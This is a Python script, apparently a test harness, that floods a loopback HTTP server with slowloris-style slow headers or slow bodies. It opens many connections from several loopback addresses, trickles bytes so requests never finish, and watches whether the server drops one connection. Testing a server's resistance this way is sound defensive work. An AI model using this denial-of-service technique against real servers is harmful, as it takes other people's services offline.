#!/usr/bin/env python3
"""slowloris.py: a slow-header flood against a local HTTP server.

    slowloris.py --port P [--sources N] [--per-source K] [--every S]
                 [--body] [--ready FILE] [--watch-one FILE]
                 [--limit SECONDS]

Opens K connections from each of N loopback source addresses (127.0.0.2,
127.0.0.3, ...), each sending the start of a request line and then one
header byte every S seconds, never finishing.  With --body, each sends
whole headers announcing a 4096-byte body instead, then one body byte
every S seconds: "GET /" (a route that takes no body) and "POST
/api/ice/turn" (one that does) in turn, the watched one the latter.
Once every connection was tried it writes "OPEN REFUSED" to --ready.  With --watch-one, it also
opens one more connection from 127.0.0.1 the same way, and writes
"closed" to that file when the server ends it, or "open" after --limit
seconds.  Runs until SIGTERM, or --limit seconds.  Loopback only.
"""
import argparse
import errno
import os
import resource
import signal
import socket
import sys
import time


HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "
BODY = (b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 4096\r\n\r\n",
        b"POST /api/ice/turn HTTP/1.1\r\nHost: x\r\nContent-Length: 4096\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n\r\n")


def connect(src, port, start=HEAD):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((src, 0))
    s.settimeout(5)
    s.connect(("127.0.0.1", port))
    s.sendall(start)
    s.setblocking(False)
    return s


def alive(s):
    """False once the server closed s (what it answered is read)."""
    try:
        while s.recv(4096) != b"":
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--sources", type=int, default=9)
    ap.add_argument("--per-source", type=int, default=120)
    ap.add_argument("--every", type=float, default=1.0)
    ap.add_argument("--body", action="store_true")
    ap.add_argument("--ready")
    ap.add_argument("--watch-one")
    ap.add_argument("--limit", type=float, default=120)
    opt = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))
    start = time.monotonic()
    conns, refused = [], 0
    starts = BODY if opt.body else (HEAD,)
    one = connect("127.0.0.1", opt.port, starts[-1]) if opt.watch_one \
        else None
    for n in range(opt.sources):
        src = "127.0.0.%d" % (n + 2)
        for k in range(opt.per_source):
            try:
                conns.append(connect(src, opt.port, starts[k % len(starts)]))
            except OSError:
                refused += 1
    if opt.ready:
        with open(opt.ready + ".tmp", "w") as f:
            f.write("%d %d\n" % (len(conns), refused))
        os.rename(opt.ready + ".tmp", opt.ready)
    while time.monotonic() - start < opt.limit:
        for s in conns:
            try:
                s.send(b"x")
            except OSError as e:
                if e.errno not in (errno.EAGAIN, errno.EPIPE,
                                   errno.ECONNRESET):
                    raise
        if one is not None:
            if not alive(one):
                with open(opt.watch_one, "w") as f:
                    f.write("closed\n")
                one = None
            else:
                try:
                    one.send(b"y")
                except OSError:
                    pass
        time.sleep(opt.every)
    if one is not None:
        with open(opt.watch_one, "w") as f:
            f.write("open\n")


if __name__ == "__main__":
    main()
